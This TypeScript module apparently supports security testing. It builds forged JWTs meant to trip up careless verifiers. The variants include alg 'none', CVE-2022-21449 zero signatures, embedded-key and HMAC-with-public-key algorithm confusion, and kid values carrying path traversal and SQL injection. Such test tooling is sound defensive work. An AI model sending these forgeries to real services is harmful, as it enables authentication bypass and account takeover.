import { createHmac, generateKeyPairSync, sign } from 'node:crypto';

const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');

/** Tokens that look like `good`, and that a careless server would take: none of them is signed by its key. */
export function forgedTokens(good: string): string[] {
  const [, payload = '', signature = ''] = good.split('.');
  const parsed: unknown = JSON.parse(Buffer.from(payload, 'base64url').toString());
  const claims = typeof parsed === 'object' && parsed !== null ? parsed : {};
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-521' });
  const small = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = publicKey.export({ format: 'jwk' });
  const signed = (header: object, body: string = payload): string => {
    const text = `${encode(header)}.${body}`;
    const bytes = sign('sha512', Buffer.from(text), { key: privateKey, dsaEncoding: 'ieee-p1363' });
    return `${text}.${bytes.toString('base64url')}`;
  };
  const alone = { alg: 'ES512', typ: 'JWT' };
  const es256 = `${encode({ alg: 'ES256', typ: 'JWT' })}.${payload}`;
  const hmac = `${encode({ alg: 'HS512', typ: 'JWT' })}.${payload}`;
  return [
    `${encode({ alg: 'none' })}.${payload}.`,
    `${encode({ alg: 'nOnE' })}.${payload}.${signature}`,
    // ECDSA with r and s of nothing (CVE-2022-21449), and of our own key named in the header in all ways there are.
    `${encode(alone)}.${payload}.${Buffer.alloc(132).toString('base64url')}`,
    signed(alone),
    signed({ ...alone, jwk }),
    signed({ ...alone, kid: '../../../../dev/null' }),
    signed({ ...alone, kid: "' UNION SELECT 'x' --" }),
    signed({ ...alone, jku: 'https://127.0.0.1:1/keys', x5u: 'https://127.0.0.1:1/chain' }),
    signed({ ...alone, crit: ['exp'] }),
    signed({ ...alone, b64: false, crit: ['b64'] }),
    signed(alone, encode({ ...claims, exp: 2 ** 53, nbf: -1, sub: 'x'.repeat(4_000) })),
    `${es256}.${sign('sha256', Buffer.from(es256), { key: small.privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`,
    `${hmac}.${createHmac('sha512', publicKey.export({ format: 'pem', type: 'spki' }))
      .update(hmac)
      .digest('base64url')}`,
    `${encode(alone)}.${encode({ ...claims, sub: 'root' })}.${signature}`,
    `${good.slice(0, -8)}AAAAAAAA`,
    `${good}.${good}`,
    good.slice(0, good.length / 2),
    `${'A'.repeat(6_000)}.${'A'.repeat(6_000)}.${'A'.repeat(176)}`,
  ];
}
